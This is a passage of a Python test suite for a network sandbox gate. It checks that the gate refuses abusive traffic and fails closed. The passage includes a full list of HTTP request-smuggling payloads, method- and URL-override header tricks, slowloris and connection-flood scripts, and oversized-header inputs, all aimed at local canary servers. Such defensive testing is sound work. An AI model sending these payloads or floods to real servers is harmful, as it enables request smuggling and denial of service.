        assert r.rc != 0 and not http.count and "config.yaml" in r.err, (what, r.rc, r.err)
    user_config(home, f"net: {{allow: ['canary.test:{http.port}=127.0.0.1']}}\n")  # the control
    assert "canary" in home.skep("run", "--", "curl", "-sS", f"http://canary.test:{http.port}/").ok().out
    with open(f"{home.dir}/.skep.yaml", "w", encoding="ascii") as f:  # a project file counts for nothing until trusted
        f.write(f"net: {{allow: ['mine.test:{http.port}=127.0.0.1']}}\n")
    r = home.skep("run", "--", "curl", "-sS", f"http://mine.test:{http.port}/")
    assert r.rc == 6 and "is ignored in that" in r.err and "resolve" in r.err


# --- T-047: smuggling ---------------------------------------------------------------------------------------------


def smuggled(host):
    get = f"GET /inner HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    h = f"POST / HTTP/1.1\r\nHost: {host}\r\n".encode()
    chunked, hidden = b"0\r\n\r\n" + get, b"Content-Length: %d\r\n" % len(get)
    return {
        "cl and te": h + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked,
        "te and cl": h + b"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n" + chunked,
        "two lengths": h + b"Content-Length: 0\r\n" + hidden + b"\r\n" + get,
        "list of lengths": h + b"Content-Length: 0, %d\r\n\r\n" % len(get) + get,
        "sign": h + b"Content-Length: +0\r\n\r\n" + get,
        "hex": h + b"Content-Length: 0x0\r\n\r\n" + get,
        "te twice": h + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + chunked,
        "te list": h + b"Transfer-Encoding: chunked, identity\r\n\r\n" + chunked,
        "te odd": h + b"Transfer-Encoding: xchunked\r\n\r\n" + chunked,
        "te tab": h + b"Transfer-Encoding:\x0bchunked\r\n\r\n" + chunked,
        "te space": h + b"Transfer-Encoding : chunked\r\n\r\n" + chunked,
        "te folded": h + b"Transfer-Encoding:\r\n chunked\r\n\r\n" + chunked,
        "te 1.0": h.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Transfer-Encoding: chunked\r\n\r\n" + chunked,
        "lf only": (h + hidden + b"\r\n").replace(b"\r\n", b"\n") + get,
        "bare lf in a field": h + b"X: a\nContent-Length: 0\r\n\r\n" + get,
        "bare cr": h + b"X: a\rContent-Length: 0\r\n\r\n" + get,
        "nul": h + b"X: a\0b\r\n\r\n" + get,
        "space before colon": h + b"Content-Length : 0\r\n\r\n" + get,
        "folded": h + b"X: a\r\n b\r\n\r\n" + get,
        "no colon": h + b"nonsense\r\n\r\n" + get,
        "two hosts": h + f"Host: {host}\r\n\r\n".encode() + get,
        "no host": b"GET / HTTP/1.1\r\n\r\n" + get,
        "leading space": b"GET / HTTP/1.1\r\n Host: x\r\n" + f"Host: {host}\r\n\r\n".encode() + get,
        "version": f"GET / HTTP/1.2\r\nHost: {host}\r\n\r\n".encode() + get,
        "method": f"G\x00ET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() + get,
        "two spaces": f"GET  / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() + get,
        "chunk sign": h + b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + get,
        "chunk hex": h + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + get,
        "chunk lf": h + b"Transfer-Encoding: chunked\r\n\r\n0\n\n" + get,
        "chunk huge": h + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" + get,
        "chunk length": h + b"Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n" + get,
        "chunk extension": h + b"Transfer-Encoding: chunked\r\n\r\n0;a=\nb\r\n\r\n" + get,
    }


def test_smuggling(home):
    """T-047: what two readers could read in two ways is refused, and nothing that was hidden arrives."""
    canary = HttpCanary()
    host = f"canary.test:{canary.port}"
    cell = Cell(home, "--allow", f"{host}=127.0.0.1", "--deny", f"{host}/inner")
    tries = smuggled(host)
    assert on_host(f"say(tcp('127.0.0.1', {canary.port}, {tries['cl and te']!r}, 0.3))").count("canary\n") >= 2  # a naive server sees another
    canary.names.clear()
    raw_before = canary.count
    got = cell.tries(f"say([tcp('canary.test', {canary.port}, x, 1) for x in {list(tries.values())!r}])")
    bad = {k: a for k, a in zip(tries, got) if not a.startswith("HTTP/1.1 400")}
    assert bad.pop("method", "ECONNRESET") == "ECONNRESET"  # not HTTP at all, and a rule looks at paths
    assert set(bad) <= {"chunk sign", "chunk hex", "chunk lf", "chunk huge", "chunk length", "chunk extension"}, bad  # a head that was good has gone up already
    assert not [n for n in canary.names if "inner" in n[0]], canary.names
    for data in canary.seen[raw_before:]:
        assert data.count(b"HTTP/1.") <= 1 and b"inner" not in data, data
    assert len(cell.events("denied", what="request")) >= len(tries) - 6
    # The control: a pipeline of good ones is two requests, each judged.
    good = f"GET /a HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * 2 + f"GET /inner HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    answer = cell.tries(f"say(tcp('canary.test', {canary.port}, {good!r}, 1))")
    assert answer.count("canary\n") == 2 and "403" in answer and len(canary.names) >= 2
    assert cell.event("denied", what="request", rule=f"!{host}/inner")
    canary.close()


def test_a_request_that_says_two_things(home, http):
    """Fields that some servers obey instead of the request line, where a rule looks at that line."""
    port = http.port
    cell = Cell(home, "--allow", f"GET canary.test:{port}/open/*=127.0.0.1", "--allow", f"other.test:{port}=127.0.0.1")
    tries = [("/open/a", f"{n}: {v}") for n, v in (("X-HTTP-Method-Override", "DELETE"), ("x_http_method", "DELETE"), ("X-Method-Override", "PUT"), ("X-Original-URL", "/closed"), ("X-Rewrite-URL", "/closed"))]
    tries += [("/open/a", f"{n}: /closed") for n in ("X-Original-URI", "X-Forwarded-URI", "X-HTTP-DestinationURL", "X-Method")]
    tries += [("/open/a?_method=DELETE", "X-Any: 1"), ("/open/a?b=1&%5fmethod=PUT", "X-Any: 1")]
    got = cell.tries(f"say([get('canary.test', {port}, p, [f]) for p, f in {tries!r}])")
    assert all(x.startswith("HTTP/1.1 403") for x in got) and not http.names, got
    assert len(cell.events("denied", what="request")) == len(tries)
    assert "X-Original-URL may say another" in cell.event("denied", what="request", why="X-Original-URL may say another method or path than the one that is judged")["why"]
    # The same in a form, where a rule names a method.
    form = "b=1&_method=DELETE"
    post = f"POST /open/a HTTP/1.1\r\nHost: canary.test:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n\r\n"
    home.skep("policy", "set", cell.id, "--allow", f"POST canary.test:{port}/open/*=127.0.0.1").ok()
    cell.tries(f"say(tcp('canary.test', {port}, {(post + form).encode()!r}, 2))")
    assert cell.event("denied", what="request", why="a field of the form may say another method or path than the one that is judged")
    assert form.encode() not in b"".join(http.seen)
    # The control: without such a field, and where no rule looks at requests, it goes through.
    assert all("canary" in x for x in cell.tries(f"say([get('canary.test', {port}, '/open/a'), get('other.test', {port}, '/', ['X-HTTP-Method-Override: PUT'])])"))


# --- T-048: life and abuse ----------------------------------------------------------------------------------------


def test_a_rule_taken_back_ends_what_it_let_through(home, echo, tls_canary):
    """T-048."""
    rule, other = f"canary.test:{echo.port}=127.0.0.1", f"canary.test:{tls_canary.port}=127.0.0.1"
    cell = Cell(home, "--allow", rule, "--allow", other)
    p, said = cell.starts(f"""
def tunnel(port):
    s = socket.create_connection(("canary.test", port))
    if port == {tls_canary.port}:
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
        s = c.wrap_socket(s, server_hostname="canary.test")
    s.sendall(b"ping\\n"); return s, s.recv(100).decode()
a, first = tunnel({echo.port}); b, second = tunnel({tls_canary.port})
say([first, second])
def end(s):
    try: return s.recv(100).decode()
    except OSError as e: return name_of(e)
say(end(a))
b.sendall(b"still"); say(end(b)); say(tcp("canary.test", {echo.port}, b"x"))
say(end(b))""")
    assert said()[0] == "ping\n"
    start = time.monotonic()
    cell.set("--remove", rule)
    assert said() in ("ECONNRESET", "") and time.monotonic() - start < 2
    assert "page" in said()  # the other one goes on
    assert said() in CLOSED | {"no such name"}
    assert cell.event("denied", what="policy", name="canary.test", port=echo.port)["why"] == "the new policy does not allow it"
    cell.set("--deny", "canary.test")
    assert "page" not in said()
    p.wait(10)
    cell.event("denied", what="policy", port=tls_canary.port)
    cell.set("--remove", "!canary.test", "--allow", rule)  # and works again
    assert cell.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 2, False))") == "ping\n"


def test_a_rule_taken_back_ends_the_request_under_way(home):
    """The host stays allowed for other requests; what is being answered by a rule that is gone is not."""
    half = Canary(answer=b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf")
    a, b = (f"GET canary.test:{half.port}/{x}=127.0.0.1" for x in "ab")
    cell = Cell(home, "--allow", a, "--allow", b)
    try:
        p, said = cell.starts(f"""
def begin(path):
    s = socket.create_connection(("canary.test", {half.port}))
    s.sendall(f"GET {{path}} HTTP/1.1\\r\\nHost: canary.test:{half.port}\\r\\n\\r\\n".encode())
    got = b""
    while not got.endswith(b"half"): got += s.recv(1000)
    return s
def end(s):
    try: return s.recv(100).decode()
    except OSError as e: return name_of(e)
one, two = begin("/a"), begin("/b")
say("both"); say(end(one))
two.settimeout(0.3); say(end(two))""")
        assert said() == "both"
        cell.set("--remove", a)
        assert said() in ("ECONNRESET", "")
        assert said() == "TimeoutError"  # the other one goes on
        p.wait(10)
        assert "request under way" in cell.event("denied", what="policy", rule=a)["why"]
    finally:
        half.close()


def test_an_address_denied_while_it_is_dialled(home):
    """Judged, then denied, then connected: the newer word counts. The listener's queue is full until it is."""
    full = socket.socket()
    full.bind(("127.0.0.1", 0))
    full.listen(0)
    port = full.getsockname()[1]
    waiting = [socket.create_connection(("127.0.0.1", port))]
    cell = Cell(home, "--allow", f"canary.test:{port}=127.0.0.1")
    taken, code = [], f"say('go'); say(tcp('canary.test', {port}, b'\\1data', 20))"
    with full:
        p, said = cell.starts(code)
        assert said() == "go"
        wait_for(lambda: pending(port), 10, 0.02, "the gate to dial")
        cell.set("--deny", "127.0.0.0/8")
        full.settimeout(20)
        taken.append(full.accept()[0])  # makes room: the kernel tries again within a second or two
        assert said() in CLOSED
        p.wait(10)
        assert "denied by a rule" in cell.event("denied", what="address")["why"]
        taken.append(full.accept()[0])
        assert taken[1].recv(10) == b""  # connected, and told nothing
    for s in waiting + taken:
        s.close()


def pending(port):
    """Somebody's connection to that port has not been answered yet."""
    with open("/proc/net/tcp", encoding="ascii") as f:
        return [x for x in f if x.split()[2].endswith(f":{port:04X}") and x.split()[3] == "02"]


def test_answers_without_end_before_the_answer(home):
    many, few = (Canary(answer=b"HTTP/1.1 103 Early Hints\r\nX: y\r\n\r\n" * n + b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok") for n in (40, 4))
    cell = Cell(home, *(x for c in (many, few) for x in ("--allow", f"canary.test:{c.port}=127.0.0.1")))
    got = cell.tries(f"say([get('canary.test', x) for x in ({many.port}, {few.port})])")
    assert "502 Bad Gateway" in got[0] and "200 OK" not in got[0], got
    assert got[1].count(" 103 ") == 4 and got[1].endswith("ok"), got
    many.close()
    few.close()


def test_fake_addresses_belong_to_one_sandbox(home, http):
    """T-048: an address that another sandbox was given, or nobody, leads nowhere."""
    port = http.port
    mine, other = Cell(home, "--allow", f"*.canary.test:{port}=127.0.0.1"), Cell(home, "--allow", f"only.here.test:{port}=127.0.0.1")
    address = mine.tries("say(ask('a.canary.test'))")[1][0]
    assert "canary" in mine.tries(f"say(get({address!r}, {port}, name='a.canary.test'))")
    before = http.count
    other.tries("say(ask('only.here.test'))")
    got = other.tries(f"say([get({address!r}, {port}, name=n) for n in ('a.canary.test', 'only.here.test')] + [tcp('198.18.0.1', {port}, b'x'), tcp('198.19.255.255', {port}, b'x')])")
    assert set(got) <= CLOSED and http.count == before, got
    e = other.event_with_command("python3", lambda: other.tries(f"say(tcp({address!r}, {port}, b'x'))"), "denied", what="connect", address=address)
    assert e["why"] == "this address stands for no name"


def test_more_names_than_addresses(home, http):
    """T-048: the pool is bounded; what was given last works, and a connection keeps its name."""
    port = http.port
    cell = Cell(home, "--allow", f"*.canary.test:{port}=127.0.0.1")
    got = cell.tries(f"""
held = socket.create_connection(("held.canary.test", {port}))
first = ask("n0.canary.test")[1][0]
given = set()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(3); s.connect(("127.0.0.1", 53))
    for i in range(0, 6000, 50):
        for k in range(i, i + 50): s.send(question(f"n{{k}}.canary.test"))
        for k in range(50): given.add(meaning(s.recv(600))[1][0])
held.sendall(b"GET /held HTTP/1.1\\r\\nHost: held.canary.test:{port}\\r\\nConnection: close\\r\\n\\r\\n")
say([len(given), "canary" in b"".join(iter(lambda: held.recv(1000), b"")).decode(), get("n5999.canary.test", {port}), get("n0.canary.test", {port}),
    get(first, {port}, name="n0.canary.test")])""")
    assert got[0] > 4000 and got[1] is True and "canary" in got[2] and "canary" in got[3], got
    assert {h[0] for _, h in http.names} <= {f"held.canary.test:{port}", f"n5999.canary.test:{port}", f"n0.canary.test:{port}"}


def memory_of(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        return next(int(x.split()[1]) for x in f if x.startswith("VmRSS")) * 1024


def test_heads_without_end(home, http):
    """T-048: 1 MiB of header fields, one field of 1 MiB, a request line of 1 MiB, a ClientHello that never ends."""
    port = http.port
    cell = Cell(home, "--allow", f"canary.test:{port}=127.0.0.1", "--allow", "canary.test:443=127.0.0.1")
    got = cell.tries(f"""
start = b"GET / HTTP/1.1\\r\\nHost: canary.test:{port}\\r\\n"
for x in (start + b"".join(b"X-%d: y\\r\\n" % i for i in range(100000)), start + b"X: " + b"y" * (1 << 20), b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\\r\\n", b"GET" + b" " * (1 << 20)):
    say(tcp("canary.test", {port}, x + b"\\r\\n\\r\\n", 3))
say(tcp("canary.test", 443, b"\\x16\\3\\1\\x40\\0\\1\\0\\xff\\xff" + b"A" * (1 << 20), 3))""")
    assert all(x.startswith("HTTP/1.1 4") or x.startswith(("ECONNRESET", "EPIPE")) for x in got), [x[:200] for x in got]
    assert not http.names
    pids = cell.gate()
    if IS_ROOT:
        assert memory_of(pids[0]) < 64 << 20
    assert "canary" in cell.tries(f"say(get('canary.test', {port}))")


# Ten thousand connections, as fast as one sandbox can make them: half of them silent, half with a byte now and then.
FLOOD = r"""
import resource
made = []
for _ in range(10):
    r, w = os.pipe()
    if os.fork(): made.append(r); os.close(w); continue
    n = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (n, n))
    a, all_of_them = ask("canary.test")[1][0], []
    for i in range(1000):
        s = socket.socket(); s.setblocking(False); s.connect_ex((a, 443))
        all_of_them.append(s)
    os.write(w, b"x")
    for i in range(3000):
        for s in all_of_them[2 * (i % 10)::20]:
            try: s.send(b"\x16\3\1\x10\0\1\0\x0f"[i // 10:i // 10 + 1] or b"A")
            except OSError: pass
        time.sleep(0.05)
say(sum(len(os.read(r, 1)) for r in made))
os.wait()"""


def test_ten_thousand_connections(home, http):
    """T-048: they cost their own sandbox only, and that one is served among them."""
    port = http.port
    slow, neighbour = [Cell(home, "--allow", f"canary.test:{port}=127.0.0.1", "--allow", "canary.test:443=127.0.0.1") for _ in range(2)]
    assert "canary" in neighbour.tries(f"say(get('canary.test', {port}))")
    p, said = slow.starts(FLOOD)
    assert said() == 10
    worst = 0
    for _ in range(5):
        start = time.monotonic()
        assert "canary" in neighbour.tries(f"say(get('canary.test', {port}))")
        worst = max(worst, time.monotonic() - start)
    assert worst < 2.0, worst
    wait_for(lambda: "canary" in slow.tries(f"say(get('canary.test', {port}, wait=10))"), 30, 0.2, "its own turn")
    pids = slow.gate()
    assert len(pids) == 1
    if IS_ROOT:
        assert memory_of(pids[0]) < 128 << 20
        assert len(os.listdir(f"/proc/{pids[0]}/fd")) < 4096
    slow.event("denied", what="connect", why="no first bytes in time, and others wait")
    p.send_signal(signal.SIGTERM)
    p.wait(10)
    wait_for(lambda: "canary" in slow.tries(f"say(get('canary.test', {port}, wait=3))"), 15, 0.2, "its own turn again")
    assert slow.gate() == pids, "the gate died of it"


def test_requests_that_never_end(home, http):
    """T-048: more opened connections than there are places, each with a request that comes a byte at a time."""
    port = http.port
    slow, neighbour = [Cell(home, "--allow", f"canary.test:{port}=127.0.0.1") for _ in range(2)]
    p, said = slow.starts(f"""
a, all_of_them = ask("canary.test")[1][0], []
for i in range(900):
    s = socket.socket(); s.setblocking(False); s.connect_ex((a, {port}))
    all_of_them.append(s)
for i in range(3000):
    for s in all_of_them[i % 10::10]:
        try: s.send(b"GET / HTTP/1.1\\r\\nHost: canary.test:{port}\\r\\nX: " if i < 10 else b"y")
        except OSError: pass
    time.sleep(0.05)
    if i == 20: say(1)""")
    assert said() == 1
    assert "canary" in neighbour.tries(f"say(get('canary.test', {port}))")
    # each has its time for a whole head, and no more
    wait_for(lambda: "canary" in slow.tries(f"say(get('canary.test', {port}, wait=15))"), 40, 0.2, "its own turn")
    assert len(slow.gate()) == 1 and {h[0] for _, h in http.names} == {f"canary.test:{port}"} and len(http.names) == 2
    p.send_signal(signal.SIGTERM)
    p.wait(10)


# --- the gate itself ----------------------------------------------------------------------------------------------


def kill_gate(cell, sig):
    pid = cell.gate()[0]
    start = proc_start(pid)
    os.kill(pid, sig)
    wait_for(lambda: proc_start(pid) != start or proc_state(pid) == "Z", why="the gate to die")
    return pid


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGSEGV, signal.SIGABRT])
def test_a_gate_that_dies(home, echo, sig):
    """Fails closed, leaves no core, harms nothing else; the next connection has a new one."""
    cell = Cell(home, "--allow", f"canary.test:{echo.port}=127.0.0.1")
    p, said = cell.starts(f"""
s = socket.create_connection(("canary.test", {echo.port})); s.sendall(b"ping\\n"); say(s.recv(10).decode())
try: say(s.recv(10).decode())
except OSError as e: say(name_of(e))
say([tcp("198.18.0.1", 80, b"x"), tcp("192.0.2.1", 80), tcp("127.0.0.1", {echo.port}), ask("evil.test")])
say(tcp("canary.test", {echo.port}, b"pong\\n", 5, False))""")
    assert said() == "ping\n"
    old = kill_gate(cell, sig)
    assert said() in ("", "ECONNRESET")
    got = said()
    assert set(got[:3]) <= CLOSED and got[3] == REFUSED_NAME, got
    assert said() == "pong\n"
    assert p.wait(10) == 0
    assert cell.gate() != [old]
    for d in (home.dir, home.skep_home, os.getcwd(), home.top):
        assert not [f for f in os.listdir(d) if f.startswith("core")]


def test_a_gate_that_dies_again_and_again(home, echo):
    """After five starts in a minute it stays closed, and says so."""
    cell = Cell(home, "--allow", f"canary.test:{echo.port}=127.0.0.1")
    for _ in range(5):
        assert cell.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 5, False))") == "ping\n"
        kill_gate(cell, signal.SIGKILL)
    got = cell.tries(f"say([tcp('canary.test', {echo.port}, b'ping\\n', 3, False), tcp('198.18.0.1', 80, b'x', 3), tcp('127.0.0.1', {echo.port})])")
    assert "ping\n" not in got and set(got[1:]) <= CLOSED, got
    e = cell.event("denied", what="gate")
    assert "stays closed" in e["why"]
    home.skep("exec", cell.id, "--", "true").ok()
    home.skep("stop", cell.id).ok()
    assert cell.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 5, False))") == "ping\n"


def test_a_gate_that_hangs(home, echo):
    """Stopped: nothing passes, the cell and its neighbours live on, and it ends with the sandbox."""
    cell, neighbour = (Cell(home, "--allow", f"canary.test:{echo.port}=127.0.0.1") for _ in range(2))
    assert cell.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 5, False))") == "ping\n"
    pid = cell.gate()[0]
    os.kill(pid, signal.SIGSTOP)
    before = echo.count
    got = cell.tries(f"say([ask('canary.test', wait=1), tcp('198.18.0.1', {echo.port}, b'x', 1), tcp('192.0.2.1', 80, b'', 1)])")
    assert got[0] == "TimeoutError" and got[1] == "TimeoutError" and got[2] in CLOSED and echo.count == before
    assert neighbour.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 5, False))") == "ping\n"
    start = time.monotonic()
    home.skep("rm", "--force", cell.id).ok()
    assert time.monotonic() - start < 5
    wait_for(lambda: comm(pid) != "skep-gate", 5, why="the hung gate to be gone")


def test_the_gate_is_nobody_inside(home, echo):
    """It is not seen, not traced, not signalled from the cell, and keeps little for itself."""
    cell = Cell(home, "--allow", f"canary.test:{echo.port}=127.0.0.1")
    assert cell.tries(f"say(tcp('canary.test', {echo.port}, b'ping\\n', 5, False))") == "ping\n"
    pid = cell.gate()[0]
    seen = cell.tries("""
found = []
for p in os.listdir("/proc"):
    if p.isdigit():
        try: found.append(open(f"/proc/{p}/cmdline").read())
        except OSError: pass
say([x for x in found if "gate" in x and "TRIES" not in x and "say(" not in x])
try: os.kill(%d, 0); say("signalled")
except OSError as e: say(name_of(e))
try: open("/proc/%d/mem", "rb"); say("opened")
except OSError as e: say(name_of(e))""" % (pid, pid))
    assert seen[0] == [] and "signalled" not in seen and "opened" not in seen, seen
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        status = dict(x.split(":\t", 1) for x in f.read().splitlines() if ":\t" in x)
    assert status["Seccomp"] == "2" and status["NoNewPrivs"] == "1" and set(status["CapEff"]) == {"0"} and set(status["CapPrm"]) == {"0"} and set(status["CapBnd"]) <= {"0"} | set("0123456789abcdef")
    if IS_ROOT:
        assert status["Uid"].split() == ["65534"] * 4 and status["Groups"].strip() == ""
        with open(f"/proc/{pid}/limits", encoding="ascii") as f:
            assert [x.split()[4:6] for x in f if x.startswith("Max core")] == [["0", "0"]]
    else:
        assert status["Uid"].split()[0] != str(os.getuid())  # one of the user's subordinate ids


def test_relays_and_names_of_processes(home, http):
    """A child, a renamed program, a relay on the cell's own loopback: judged like everybody, and told apart."""
    port = http.port
    cell = Cell(home, "--allow", f"canary.test:{port}=127.0.0.1")
    got = cell.tries(f"""
def relay(port, host):
    l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen()
    if os.fork() == 0:
        c, _ = l.accept(); data = c.recv(1000)
        c.sendall(tcp(host, port, data, 3).encode()); os._exit(0)
    return l.getsockname()[1]
p = relay({port}, "canary.test"); say(tcp("127.0.0.1", p, b"GET /good HTTP/1.1\\r\\nHost: canary.test:{port}\\r\\nConnection: close\\r\\n\\r\\n"))
say(get("127.0.0.1", relay({port}, "canary.test"), name="evil.test"))
say(get("127.0.0.1", relay({port}, "192.0.2.1"), name="canary.test"))""")
    assert "canary\n" in got[0]  # a relay is nobody special, for good or ill
    assert "canary\n" not in got[1] and "canary\n" not in got[2], got
    cell.event_with_command("curl", lambda: home.skep("exec", cell.id, "--", "sh", "-c", f"(curl -sS http://canary.test:{port}/from-curl)").ok(), "net.request", path="/from-curl")
